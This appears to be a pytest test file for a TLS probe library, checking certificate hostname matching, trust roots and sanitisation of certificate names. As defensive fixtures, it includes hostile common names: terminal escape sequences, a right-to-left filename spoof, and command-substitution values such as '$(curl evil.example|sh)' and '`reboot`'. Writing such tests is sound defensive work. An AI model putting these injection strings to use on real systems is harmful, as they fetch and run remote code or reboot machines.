import asyncio
import hashlib
import ssl
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import certifi
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID
from hypothesis import given
from hypothesis import strategies as st
from OpenSSL import crypto
from tests.probe.conftest import HOME, HOST, Net, mute, replies

from arcferry.probe.https import exchange, prepare
from arcferry.probe.tls import Trust, is_for, load_trust, name_text, read_certificates
from arcferry_lab.network.dns import DnsResponse


@pytest.mark.parametrize(
    ("host", "names", "covered"),
    [
        ("a.example.com", ["a.example.com"], True),
        ("A.Example.com", ["a.eXample.com."], True),
        ("a.example.com", ["*.example.com"], True),
        ("b.a.example.com", ["*.example.com"], False),
        ("example.com", ["*.example.com"], False),
        ("example.com", ["*.com"], False),
        ("a.example.com", ["a*.example.com", "*a.example.com", "*"], False),
        ("a.example.com", ["*.*.com", "a.*.com"], False),
        ("a.example.com", [], False),
        ("10.0.0.1", ["10.0.0.1"], True),
        ("fd00::1", ["fd00:0::1"], True),
        ("10.0.0.1", ["*.0.0.1", "10.0.0.2"], False),
    ],
)
def test_names(host: str, names: list[str], covered: bool) -> None:
    assert is_for(host, names) is covered


@given(st.text(max_size=40), st.lists(st.text(max_size=40), max_size=4))
def test_any_names_are_survived(host: str, names: list[str]) -> None:
    is_for(host, names)


def test_public_roots_are_known_by_their_own_certificate() -> None:
    blocks = Path(certifi.where()).read_text().split("-----BEGIN CERTIFICATE-----")[1:]
    roots = [
        crypto.load_certificate(crypto.FILETYPE_PEM, f"-----BEGIN CERTIFICATE-----{block}".encode())
        for block in blocks
    ]
    trust = load_trust()
    assert all(map(trust.is_public, roots))
    assert len(trust.public_roots) == len(roots)


def test_a_private_ca_is_no_public_root(net: Net) -> None:
    trust = load_trust(read_certificates(net.ca_file))
    assert not trust.is_public(crypto.load_certificate(crypto.FILETYPE_PEM, net.authority.pem))


@pytest.mark.parametrize("known", [True, False])
async def test_a_chain_is_followed_to_its_root(net: Net, known: bool) -> None:
    root = ssl.PEM_cert_to_DER_cert(net.authority.pem.decode())
    trust = load_trust(read_certificates(net.ca_file))
    roots = frozenset({hashlib.sha256(root).digest()}) if known else trust.public_roots
    net.names[HOST] = DnsResponse(addresses=HOME)
    believed: asyncio.Future[Trust] = asyncio.get_running_loop().create_future()
    believed.set_result(Trust(trust.context, roots))
    context = replace(prepare(net.settings()), trust=believed)
    port = await net.https(replies(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"))
    seen = await exchange(HOST, port, "/", context)
    assert seen.failure is None
    assert seen.tls is not None
    assert seen.tls.public_root is known


def hostile_context(folder: Path, name: str) -> ssl.SSLContext:
    key = ec.generate_private_key(ec.SECP256R1())
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)])
    now = datetime.now(UTC)
    builder = (
        x509.CertificateBuilder().subject_name(subject).issuer_name(subject).public_key(key.public_key())
    )
    builder = (
        builder.serial_number(7).not_valid_before(now - timedelta(1)).not_valid_after(now + timedelta(1))
    )
    signed = builder.sign(key, hashes.SHA256())
    path = folder / "hostile.pem"
    path.write_bytes(
        signed.public_bytes(Encoding.PEM)
        + key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption())
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(path)
    return context


@pytest.mark.parametrize(
    "name", ["\x1b]0;owned\x07red\x1b[31m", "line\r\nFAIL everything", "\u202egnp.exe", "\x9b31m x"]
)
async def test_what_a_certificate_says_cannot_steer_a_terminal(net: Net, tmp_path: Path, name: str) -> None:
    seen = await net.see(await net.listen(mute, hostile_context(tmp_path, name)))
    assert seen.failure is not None
    assert seen.failure.kind == "self-signed"
    assert "it is self-signed" in seen.failure.says
    assert seen.tls is not None
    for text in (seen.failure.says, seen.tls.subject, seen.tls.issuer):
        assert text.isprintable()
    assert HOST in seen.failure.says


@pytest.mark.parametrize(
    ("common_name", "shown"),
    [
        ("Contoso Inspection CA", "CN=Contoso Inspection CA"),
        ("検査認証局", "CN=検査認証局"),
        ("AT&T (Proxy)", "CN=AT&T (Proxy)"),
        ("$(curl evil.example|sh)", "a name that is none"),
        ("`reboot`", "a name that is none"),
    ],
)
def test_a_name_that_is_a_command_is_not_shown(common_name: str, shown: str) -> None:
    assert name_text(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])) == shown
